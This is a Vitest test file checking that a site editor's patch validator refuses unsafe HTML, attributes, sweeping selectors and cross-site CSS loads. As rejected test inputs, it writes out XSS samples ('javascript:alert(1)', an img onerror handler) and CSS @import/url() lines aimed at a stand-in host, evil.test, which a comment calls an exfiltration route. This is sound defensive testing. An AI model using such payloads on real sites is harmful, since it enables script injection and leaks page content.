// The patch rule both doors apply (the admin form, PUT /api/editor/patches) and the serving side trusts.
import { describe, expect, it } from "vitest";
import cases from "~/wire/rules/markup.cases.json";
import selectors from "~/wire/rules/selector-rules.cases.json";
import { patchListSchema, SWEEPING_SELECTOR_MESSAGE, validPatches } from "./patch-shape";

const issues = (patches: unknown) => patchListSchema.safeParse(patches).error?.issues.map((i) => [i.path.join("."), i.message]) ?? [];

describe("patch shape", () => {
  it.each(cases.refused)("refuses an HTML patch holding $problem: $html", ({ html, problem }) => {
    expect(issues([{ op: "html", sel: "#a", value: html }])).toEqual([["0.value", expect.stringContaining(problem)]]);
  });

  it.each(cases.accepted)("takes the HTML %j", (html) => {
    expect(issues([{ op: "html", sel: "#a", value: html }])).toEqual([]);
  });

  it.each(cases.unsafeAttributes.filter(([name]) => !/^on/i.test(name as string)))("refuses the attribute %s=%j", (name, value) => {
    expect(issues([{ op: "attr", sel: "#a", name, value }])).toEqual([["0.value", expect.stringMatching(/^Script \(javascript:\) and data: URLs/)]]);
  });

  it.each(cases.safeAttributes)("takes the attribute %s=%j", (name, value) => {
    expect(issues([{ op: "attr", sel: "#a", name, value }])).toEqual([]);
  });

  it.each(selectors.sweeping.filter((sel) => !/::|:first-letter/.test(sel)))("refuses a hide, text or html on %j", (sel) => {
    for (const op of ["hide", "text", "html"]) {
      expect(issues([{ op, sel, value: "x" }].map((p) => (op === "hide" ? { op, sel } : p)))).toEqual([["0.sel", SWEEPING_SELECTOR_MESSAGE]]);
    }
  });

  it.each(selectors.notSweeping)("takes a hide on %j", (sel) => {
    expect(issues([{ op: "hide", sel }])).toEqual([]);
  });

  // Issue 33, row 13: a style sheet could @import or load images from any host (and so send out the page's
  // content through attribute selectors).
  it("refuses a style sheet or style value that loads from another site, in the form's words", () => {
    const sheet = issues([{ op: "css", value: '@import url(https://evil.test/a.css); .a { background: url("//evil.test/?x") }' }]);
    expect(sheet).toEqual([["0.value", expect.stringMatching(/^Load nothing from another site: remove @import, url\(https:\/\/evil\.test\/a\.css\), url\(\/\/evil\.test\/\?x\)\. Use paths on your own site/)]]);
    expect(issues([{ op: "css", value: "@import '/same-site.css';" }])).toEqual([["0.value", expect.stringContaining("remove @import")]]);
    expect(issues([{ op: "style", sel: "#a", props: { "background-image": "url(https://evil.test/x.png)" } }])).toEqual([
      ["0.props.background-image", expect.stringContaining("url(https://evil.test/x.png)")],
    ]);
    expect(issues([{ op: "css", value: ".a { background: url(/cdn/shop/files/a.png), url(data:image/png;base64,AAAA) }" }])).toEqual([]);
    expect(validPatches([{ op: "css", value: "@import url(https://evil.test/a.css);" }])).toBeNull();
  });

  it("does not serve what it refuses (a patch stored before the rule)", () => {
    expect(validPatches([{ op: "hide", sel: "*" }])).toBeNull();
    expect(validPatches([{ op: "attr", sel: "a", name: "href", value: "javascript:alert(1)" }])).toBeNull();
    expect(validPatches([{ op: "html", sel: "#a", value: "<img src=x onerror=alert(1)>" }])).toBeNull();
    expect(validPatches([{ op: "hide", sel: "#a" }])).toEqual([{ op: "hide", sel: "#a" }]);
  });

  it("answers sentences, never validator text", () => {
    const all = issues([
      { op: "zap" },
      { op: "text", sel: 1, value: 2 },
      { op: "hide", sel: "#a", extra: 1 },
      { op: "style", sel: "#a", props: { "Bad Key": "x" } },
      { op: "class", sel: "#a", add: ["a b"] },
      { op: "attr", sel: "#a", name: "1x", value: "x".repeat(2001) },
    ]);
    expect(all.length).toBeGreaterThan(5);
    for (const [, message] of all) {
      expect(message).toMatch(/^[A-Z]/);
      expect(message).not.toMatch(/expected|Too big|Invalid|<=/);
    }
  });
});
